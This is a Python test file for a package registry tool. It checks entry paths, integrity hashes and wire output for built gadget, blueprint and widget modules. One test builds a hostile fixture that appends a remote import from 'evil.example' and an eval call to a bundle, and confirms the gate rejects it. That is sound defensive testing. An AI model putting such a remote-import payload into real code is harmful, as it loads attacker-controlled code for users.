"""Releases whose module was made of sources: what everybody reads of them, and what is installed."""

import json

from registry_tool.core.card import Card
from registry_tool.core.digest import sri
from registry_tool.kinds.blueprint import KIND as BLUEPRINT
from registry_tool.kinds.blueprint import wire_manifest_of
from registry_tool.kinds.gadget import KIND as GADGET
from registry_tool.kinds.widget import KIND as WIDGET
from tests.kinds.folders import described, fails, files

NATIVE = {"scope": "@acme", "name": "thing", "version": "1.0.0", "visibility": "public", "description": "What it is."}
EXPORT = {"hook": "useDemo", "description": "A demo.", "usage": "useDemo()", "example": None}
TYPED = "export const useDemo = (a: number) => a;\n"
PLAIN = "export const useDemo = (a) => a;\n"


def test_a_gadget_s_module_is_the_one_that_was_made() -> None:
    """Its spec, its integrity and what the ggui client gets name the bundle; a remark says that it is one (G5, G8)."""
    native = {**NATIVE, "kind": "gadget", "license": "MIT", "bundle": "src/index.ts", "exports": [EXPORT]}
    found = described(GADGET, files(ggui_gadget_json=native, src__index_ts=TYPED, dist__gadget_js=PLAIN))

    assert found.manifest is not None
    assert "dist/gadget.js" == found.manifest.spec["entry"]
    assert {"dist/gadget.js": sri(PLAIN.encode())} == found.manifest.spec["sri"]
    assert [("bundle", "note")] == [(one.check, one.level) for one in found.findings]
    assert GADGET.wire is not None
    assert PLAIN.encode() == GADGET.wire(found.manifest, found.payload)


def test_a_module_that_was_made_is_judged_like_any_other() -> None:
    """Whatever it was made of, what it imports and runs is looked at there."""
    native = {**NATIVE, "kind": "gadget", "bundle": "src/index.ts", "exports": [EXPORT]}
    hostile = PLAIN + 'import "https://evil.example/x.js"; eval("1");'
    payload = files(ggui_gadget_json=native, src__index_ts=TYPED, dist__gadget_js=hostile)

    assert [("gate-disallowed-import", "dist/gadget.js")] == fails(GADGET, payload)


def test_a_blueprint_s_source_is_the_one_that_was_made() -> None:
    """What is installed and signed for the wire is one file, in which its own files are."""
    source = 'import { Row } from "./row";\nexport default () => <Row />;\n'
    made = "const Row = () => <b />;\nexport default () => <Row />;\n"
    native = {**NATIVE, "kind": "blueprint", "license": "MIT"}
    found = described(
        BLUEPRINT,
        files(
            ggui_blueprint_json=native,
            contract_json="{}",
            src__blueprint_tsx=source,
            src__row_tsx="export const Row = 1",
            dist__blueprint_tsx=made,
        ),
    )

    assert found.manifest is not None
    assert "dist/blueprint.tsx" == found.manifest.spec["entry"]
    assert made == wire_manifest_of(found.manifest, found.payload)["source"]
    assert [("bundle", "dist/blueprint.tsx")] == [(one.check, one.path) for one in found.findings]
    assert json.dumps(made) not in json.dumps(dict(found.manifest.spec))


def test_a_widget_s_module_is_the_one_that_was_made() -> None:
    """Where nothing else is named, the place of what was made is one of the usual ones."""
    module = "export function mount(root, host) { host.every('30s', () => 1); }\n"
    reading = WIDGET.read(files(src__widget_ts="export {}", dist__widget_js=module), Card())

    assert "dist/widget.js" == reading.spec["entry"]
